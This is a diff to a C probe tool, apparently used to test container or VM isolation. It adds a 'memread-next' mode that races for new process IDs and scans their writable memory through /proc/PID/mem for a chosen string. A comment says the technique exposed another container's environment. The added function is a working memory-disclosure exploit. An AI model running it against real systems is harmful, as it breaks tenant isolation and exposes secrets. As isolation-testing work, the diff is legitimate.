@@ -13,6 +13,7 @@
  *   sysprobe reconfigure PATH   makes the proc filesystem mounted at PATH
  *                               (e.g. a sibling's /proc/PID/root/proc)
  *                               show PIDs only: fspick + fsconfig
+ *   sysprobe memread-next S     read the pod's next PIDs' memory for S (S's last byte + 1)
  *   sysprobe grab-next          open the pod's next PIDs' roots, mem and fds
  *                               until SIGTERM (check-vm's grab race: see
  *                               grab_next)
@@ -431,12 +432,77 @@ static int grab_next(void)
 	return 0;
 }
 
+/*
+ * Reads the pod's next processes' writable memory through /proc/PID/mem
+ * (before their execve: a copy of guest-init's heap) and looks for arg with
+ * its last byte raised by one (so the attacker's own argv, which is in that
+ * heap too, does not match). Without CAP_SYS_PTRACE a container's root
+ * found another container's environment there (review of 7aa58d0). Prints
+ * "memread: tries T, processes read R, found F" once SIGTERM ends it.
+ */
+static int memread_next(const char *arg)
+{
+	char needle[128], path[64], line[512], *buf = malloc(1 << 20);
+	long next = last_pid() + 1, tries = 0, seen = 0, found = 0;
+
+	snprintf(needle, sizeof(needle), "%s", arg);
+	needle[strlen(needle) - 1]++;
+	signal(SIGTERM, on_term);
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	while (!seize_stop && !found) {
+		FILE *f;
+		int mem;
+
+		tries++;
+		snprintf(path, sizeof(path), "/proc/%ld/maps", next);
+		f = fopen(path, "r");
+		if (!f) {
+			if ((tries & 15) == 0 && last_pid() > next)
+				next = last_pid();
+			continue;
+		}
+		snprintf(path, sizeof(path), "/proc/%ld/mem", next);
+		mem = open(path, O_RDONLY);
+		if (mem < 0) {
+			fclose(f);
+			next++;
+			continue;
+		}
+		seen++;
+		while (!found && fgets(line, sizeof(line), f)) {
+			unsigned long lo, hi;
+			char perm[8];
+
+			if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perm) != 3 || perm[1] != 'w')
+				continue;
+			for (; lo < hi && !found; lo += 1 << 20) {
+				size_t len = hi - lo < (1ul << 20) ? hi - lo : 1ul << 20;
+				ssize_t n = pread(mem, buf, len, (off_t)lo);
+
+				if (n > 0 && memmem(buf, (size_t)n, needle, strlen(needle))) {
+					printf("pid %ld: found it in %s", next, line);
+					found = 1;
+				}
+			}
+		}
+		fclose(f);
+		close(mem);
+		next++;
+	}
+	printf("memread: tries %ld, processes read %ld, found %ld\n", tries, seen, found);
+	while (!seize_stop)
+		pause();
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	int i;
 
 	if (argc == 2 && strcmp(argv[1], "zombie-leader") == 0)
 		return zombie_leader();
+	if (argc == 3 && strcmp(argv[1], "memread-next") == 0)
+		return memread_next(argv[2]);
 	if (argc == 2 && strcmp(argv[1], "grab-next") == 0)
 		return grab_next();
 	if (argc == 2 && strcmp(argv[1], "seize-next") == 0)
